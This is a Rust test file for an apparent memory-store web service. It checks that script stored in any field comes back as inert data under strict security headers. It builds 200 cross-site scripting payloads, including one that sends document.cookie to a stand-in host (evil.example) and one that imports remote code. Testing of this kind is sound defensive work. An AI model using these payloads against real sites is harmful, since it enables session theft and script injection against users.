//! Script in stored texts: it stays text wherever it comes back.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::harness::Home;
use crate::served::Served;

#[test]
fn script_in_every_stored_field_comes_back_as_data() {
    let home = Home::live();
    let server = Served::start(&home);
    let evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'`\u{2028}\u{202e}";
    let made = server.post(
        "/api/v1/memories",
        &json!({ "content": evil, "tags": ["<b>tag</b>"], "domain": "<i>area</i>", "label": evil,
            "because": ["<u>why</u> it is so"], "triggers": ["<s>run</s>"], "slot": "<a>|<b>|<c>" }),
    );
    let id = made["memory"]["id"].as_str().unwrap().to_owned();
    let graph = format!("/api/v1/graph?focus={id}");
    let (one, why, history) = (
        format!("/api/v1/memories/{id}"),
        format!("/api/v1/memories/{id}/why"),
        format!("/api/v1/memories/{id}/history"),
    );
    for path in [
        "/api/v1/memories",
        "/api/v1/log",
        &graph,
        &one,
        &why,
        &history,
        "/api/v1/memories/%3Cscript%3E",
        "/%3Cscript%3E",
        "/api/v1/export?format=markdown",
    ] {
        let heard = server.ask("GET", path, &[], None);
        let kind = heard.header("content-type").unwrap_or_default().to_owned();
        assert!(!kind.contains("html") || !heard.body.contains("<script>"), "{path}: {heard:?}");
        assert_eq!(heard.header("x-content-type-options"), Some("nosniff"), "{path}");
        let policy = heard.header("content-security-policy").expect("a policy");
        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        assert_eq!(heard.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(heard.header("referrer-policy"), Some("no-referrer"), "{path}");
        assert!(!heard.body.contains('\u{202e}'), "{path}");
    }
    assert_eq!(server.get(&one)["tags"], json!(["<b>tag</b>"]));
    for (format, end) in [("html", "</html>"), ("svg", "</svg>")] {
        let drawn = home.page(&["graph", "--format", format]);
        assert!(drawn.trim_end().ends_with(end), "{drawn}");
        assert!(!drawn.contains("<script") && !drawn.contains("<img"), "{drawn}");
    }
    let mermaid = home.page(&["graph", "--format", "mermaid"]);
    assert!(mermaid.starts_with("flowchart LR") && !mermaid.contains("<script"), "{mermaid}");
}

/// Two hundred texts that a careless page would run.
fn scripts() -> Vec<String> {
    let acts = [
        "alert(1)",
        "fetch('//evil.example/'+document.cookie)",
        "eval(name)",
        "import('//evil.example')",
    ];
    let forms = [
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script src=//evil.example/x.js>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<body onload={}>",
        "<iframe src=\"javascript:{}\">",
        "<a href=\"javascript:{}\">x</a>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        "<video><source onerror={}>",
        "<marquee onstart={}>",
        "<math><mtext><img src=x onerror={}></mtext></math>",
        "<style>@import'{}'</style>",
        "<link rel=stylesheet href=\"{}\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
        "<object data=\"{}\">",
        "<embed src=\"{}\">",
        "<form action=\"javascript:{}\"><button>x</button></form>",
        "\"><script>{}</script>",
        "'><script>{}</script>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</style><script>{}</script>",
        "<!--><script>{}</script>-->",
        "<![CDATA[<script>{}</script>]]>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "<img src=x onerror=&#97;{}>",
        "<img/src=x/onerror={}>",
        "<<script>{}//<</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "`${{}}`",
        "{{constructor.constructor('{}')()}}",
        "<x onclick={}>x</x>",
        "<template><script>{}</script></template>",
        "<noscript><p title=\"</noscript><script>{}</script>\">",
        "<base href=\"javascript:{}//\">",
        "<button popovertarget=x onbeforetoggle={}>",
        "data:text/html,<script>{}</script>",
        "javascript:{}",
        "<table background=\"javascript:{}\">",
        "<div style=\"background:url(javascript:{})\">",
        "<svg><animate onbegin={} attributeName=x>",
        "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
        "<audio src=x onerror={}>",
        "<select autofocus onfocus={}>",
        "<keygen autofocus onfocus={}>",
        "<isindex action=javascript:{}>",
        "<img src=\"x` `<script>{}</script>\"` `>",
    ];
    forms.iter().flat_map(|form| acts.map(|act| form.replace("{}", act))).collect()
}

/// Scripts of one memory; each of them stands in every one of its fields.
const IN_ONE: usize = 10;

/// What makes memories different ones.
const KINDS: [&str; 10] = [
    "amber", "birch", "copper", "desert", "ember", "forest", "granite", "harbour", "island",
    "juniper",
];
const PLACES: [&str; 5] = ["billing", "search", "orders", "archive", "profile"];

/// Stores a memory with all of its fields, without those that are refused; which these were, and what was stored.
fn store(server: &Served, mut body: Value) -> (Vec<&'static str>, Value) {
    let mut refused = Vec::new();
    let mut refusable = ["slot", "domain", "triggers", "tags", "label", "because"].into_iter();
    loop {
        let made = server.ask("POST", "/api/v1/memories", &[], Some(&body));
        if made.status == 201 {
            return (refused, made.json()["memory"].take());
        }
        assert_eq!(made.status, 400, "{made:?}");
        let name = refusable.next().unwrap_or_else(|| panic!("not even its content: {made:?}"));
        body.as_object_mut().expect("an object").remove(name);
        refused.push(name);
    }
}

/// Every text that stands anywhere in an answer.
fn texts_in(value: &Value, into: &mut Vec<String>) {
    match value {
        Value::String(text) => into.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| texts_in(item, into)),
        Value::Object(parts) => parts.values().for_each(|part| texts_in(part, into)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// The names of the elements in a drawing.
fn elements_of(drawn: &str) -> BTreeSet<&str> {
    let after = drawn.split('<').skip(1);
    let named = after.filter_map(|rest| rest.split(|c: char| !c.is_ascii_alphanumeric()).next());
    named.filter(|tag| !tag.is_empty()).collect()
}

#[test]
fn two_hundred_scripts_stay_text_in_every_field() {
    let home = Home::live();
    let scripts = scripts();
    assert_eq!(scripts.len(), 200);
    let turns = home.arg("turns.jsonl");
    let lines = scripts.iter().enumerate().map(|(at, text)| {
        let moment = format!("2026-03-02T10:{:02}:{:02}Z", at / 60, at % 60);
        json!({ "session": "s1", "at": moment, "speaker": "user", "text": text }).to_string()
    });
    std::fs::write(&turns, lines.collect::<Vec<_>>().join("\n")).unwrap();
    home.json(&["ingest", &turns]);
    let server = Served::start(&home);
    let (mut refused, mut aliases) = (Vec::new(), 0);
    for (at, few) in scripts.chunks(IN_ONE).enumerate() {
        let all = few.join("\n");
        let slot = format!("{}|is|{} {at}|many", few[0], few[1]);
        // Two that say the same in other letters, or of the same thing, would be one memory.
        let about = format!("The {} {} page holds", KINDS[at % 10], PLACES[at / 10]);
        let content = format!("{about} {all}");
        let body = json!({ "content": content, "label": few[2], "tags": few,
            "domain": few[3], "triggers": few, "slot": slot, "because": [format!("{about} what a reader sent: {all}")] });
        let (left_out, memory) = store(&server, body);
        assert_eq!(memory["content"], content);
        refused.extend(left_out);
        let named = json!({ "name": few[0], "alias": few[2] });
        let named = server.ask("POST", "/api/v1/entities/alias", &[], Some(&named));
        assert!([200, 400, 404, 409].contains(&named.status), "{named:?}");
        aliases += usize::from(named.status == 200);
    }
    let memories = scripts.len() / IN_ONE;
    assert!(refused.len() <= memories / 10, "too much was refused: {refused:?}");
    assert!(aliases >= memories * 9 / 10, "{aliases} of {memories} got another name");
    for path in [
        "/api/v1/memories?limit=500",
        "/api/v1/memories?q=script&limit=500",
        "/api/v1/sessions/s1/turns?limit=500",
        "/api/v1/entities?limit=500",
        "/api/v1/graph?limit=5000",
        "/api/v1/log?limit=500",
        "/api/v1/today",
    ] {
        let heard = server.ask("GET", path, &[], None);
        assert_eq!(heard.header("content-type"), Some("application/json"), "{path}");
        assert_eq!(heard.header("x-content-type-options"), Some("nosniff"), "{path}");
        let mut texts = Vec::new();
        texts_in(&heard.json(), &mut texts);
        assert!(texts.iter().any(|text| text.contains('<')), "{path} shows none of it");
        if path.contains("memories?limit") {
            let held = texts.join("\n");
            let lost: Vec<&String> = scripts.iter().filter(|one| !held.contains(*one)).collect();
            assert!(lost.is_empty(), "the texts are other ones: {lost:?}");
        }
    }
    let told = server.get("/api/v1/sessions/s1/turns?limit=500");
    assert_eq!(told["total"], 200);
    let same = told["items"].as_array().unwrap().iter().zip(&scripts);
    assert!(
        same.filter(|(turn, text)| turn["text"] == ***text).count() > 190,
        "the texts are other ones"
    );
    let markdown = server.ask("GET", "/api/v1/export?format=markdown", &[], None);
    assert!(markdown.header("content-type").is_some_and(|kind| kind.starts_with("text/markdown")));
    for format in ["html", "svg"] {
        let drawn = home.page(&["graph", "--format", format]);
        let tags = elements_of(&drawn);
        let ours = [
            "body", "code", "ellipse", "g", "h1", "h2", "html", "li", "line", "meta", "p", "rect",
            "small", "style", "svg", "text", "title", "ul",
        ];
        assert!(tags.iter().all(|tag| ours.contains(tag)), "{tags:?}");
    }
}
